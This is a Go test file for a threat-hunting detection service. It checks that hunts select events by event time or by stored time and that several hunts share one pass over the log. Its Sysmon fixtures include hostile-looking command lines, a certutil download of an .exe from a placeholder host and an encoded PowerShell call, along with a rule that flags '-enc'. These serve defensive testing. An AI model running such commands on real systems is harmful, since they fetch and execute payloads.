package detect

import (
	"context"
	"testing"
	"time"

	"github.com/kubu-gov/kubu/internal/authz"
	"github.com/kubu-gov/kubu/internal/store"
	"github.com/kubu-gov/kubu/internal/store/storetest"
)

const ruleEncoded = `title: Encoded PowerShell (hunt)
id: 3c2b1a09-8f7e-4d6c-9b5a-0000000000f2
level: high
logsource: {category: process_creation, product: windows}
detection:
  selection:
    CommandLine|contains: ' -enc '
  condition: selection
`

func certutil(host string) map[string]any {
	return map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\Windows\System32\certutil.exe`,
		"CommandLine": "certutil -urlcache -f http://x/" + host + ".exe"}
}

func encoded() map[string]any {
	return map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\Windows\powershell.exe`,
		"CommandLine": "powershell -enc SQBFAFgA"}
}

func waitHunt(t *testing.T, e *env, a authz.Actor, id string) Hunt {
	t.Helper()
	var got Hunt
	var err error
	waitFor(t, "hunt "+id, func() bool {
		got, err = e.s.HuntByID(context.Background(), a, id)
		return err == nil && got.Status != HuntRunning
	})
	if got.Status != HuntDone {
		t.Fatalf("hunt %s: %+v", id, got)
	}
	return got
}

// TestHuntByEventTime: a hunt's range selects events by their own time,
// wherever the log stored them (a late backfill is found, an event of
// the same batch outside the range is not); the same range by stored
// time finds what the log stored then.
func TestHuntByEventTime(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db, Options{LeaseTTL: 3 * time.Second})
		now := time.Now().UTC()
		old := now.Add(-48 * time.Hour) // shipped two days late
		// One batch stored now: three old events, two recent ones.
		e.publish(t, "MOH", ev("MOH", "ws1", old, certutil("a")), ev("MOH", "ws2", old.Add(time.Minute), certutil("b")),
			ev("MOH", "ws3", old.Add(2*time.Minute), certutil("c")), ev("MOH", "ws4", now, certutil("d")), ev("MOH", "ws5", now, certutil("e")))
		e.start(t)
		ctx := context.Background()

		byEvent, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleNewTechnique, From: old.Add(-time.Hour), To: old.Add(time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		if byEvent.TimeBasis != TimeEvent {
			t.Fatalf("default time basis %q, want %q", byEvent.TimeBasis, TimeEvent)
		}
		got := waitHunt(t, e, analyst, byEvent.ID)
		if got.EventsScanned != 3 || got.Matches != 3 {
			t.Fatalf("by event time over two days ago: scanned %d, matched %d; want the 3 late events", got.EventsScanned, got.Matches)
		}
		for _, a := range e.alerts(t, AlertFilter{HuntID: byEvent.ID}) {
			if a.FirstSeen.After(old.Add(time.Hour)) {
				t.Errorf("alert of the hunt dated %v, want the events' own time near %v", a.FirstSeen, old)
			}
		}

		byStored, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleNewTechnique, From: old.Add(-time.Hour), To: old.Add(time.Hour), TimeBasis: TimeStored})
		if err != nil {
			t.Fatal(err)
		}
		if got := waitHunt(t, e, analyst, byStored.ID); got.EventsScanned != 0 || got.Matches != 0 {
			t.Fatalf("by stored time two days ago (nothing stored then): %+v", got)
		}
		recent, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleNewTechnique, From: now.Add(-time.Minute), To: time.Now().Add(time.Minute), TimeBasis: TimeStored})
		if err != nil {
			t.Fatal(err)
		}
		if got := waitHunt(t, e, analyst, recent.ID); got.EventsScanned != 5 || got.Matches != 5 {
			t.Fatalf("by stored time now (the whole batch): %+v", got)
		}
		if _, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleNewTechnique, From: old, TimeBasis: "wallclock"}); !isInvalid(err) {
			t.Fatalf("unknown time basis: %v", err)
		}
	})
}

// TestHuntsShareOnePass: hunts waiting together are run by one pass over
// the log, and each gets its own correct results (its own rule, its own
// range, its own agency).
func TestHuntsShareOnePass(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db, Options{LeaseTTL: 3 * time.Second})
		now := time.Now().UTC()
		old := now.Add(-24 * time.Hour)
		e.publish(t, "MOH", ev("MOH", "ws1", now, certutil("a")), ev("MOH", "ws1", now, encoded()), ev("MOH", "ws2", old, encoded()))
		e.publish(t, "MOE", ev("MOE", "ws7", now, certutil("b")), ev("MOE", "ws7", now, encoded()), ev("MOE", "ws8", now, encoded()))
		ctx := context.Background()
		member := authz.Actor{UserID: "m", Role: authz.AgencyMember, AgencyID: e.agencies["MOE"]}
		hCert, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleNewTechnique, From: now.Add(-time.Hour), To: now.Add(time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		hEnc, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleEncoded, From: old.Add(-time.Hour), To: now.Add(time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		hOld, err := e.s.CreateHunt(ctx, analyst, NewHunt{Rule: ruleEncoded, From: old.Add(-time.Hour), To: old.Add(time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		hMOE, err := e.s.CreateHunt(ctx, member, NewHunt{Rule: ruleEncoded, From: now.Add(-time.Hour), To: now.Add(time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		before := e.s.HuntPasses()
		e.start(t)
		want := []struct {
			name             string
			a                authz.Actor
			id               string
			scanned, matches int64
		}{
			{"certutil, last hour, every agency", analyst, hCert.ID, 5, 2},
			{"encoded, since yesterday, every agency", analyst, hEnc.ID, 6, 4},
			{"encoded, yesterday only", analyst, hOld.ID, 1, 1},
			{"encoded, last hour, MOE's", member, hMOE.ID, 3, 2},
		}
		for _, w := range want {
			got := waitHunt(t, e, w.a, w.id)
			if got.EventsScanned != w.scanned || got.Matches != w.matches {
				t.Errorf("%s: scanned %d, matched %d; want %d, %d", w.name, got.EventsScanned, got.Matches, w.scanned, w.matches)
			}
		}
		if n := e.s.HuntPasses() - before; n != 1 {
			t.Fatalf("four hunts waiting together took %d passes over the log, want 1", n)
		}
		for _, w := range want {
			if n := count(t, db, `SELECT COUNT(*) FROM alert_events WHERE hunt_id = $1`, w.id); int64(n) != w.matches {
				t.Errorf("%s: %d matches stored, want %d", w.name, n, w.matches)
			}
		}
	})
}
